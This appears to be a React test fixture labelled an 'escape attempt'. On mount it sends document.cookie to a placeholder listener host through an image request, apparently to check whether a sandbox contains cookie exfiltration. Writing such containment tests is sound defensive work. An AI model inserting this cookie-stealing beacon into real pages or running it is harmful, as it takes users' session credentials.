import { useEffect } from "react";

// Escape attempt: cookie_read
export default function Hostile() {
  useEffect(() => {
    try {
      new Image().src = "__LISTENER__/cookie_read?" + document.cookie;
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">cookie_read</p>;
}
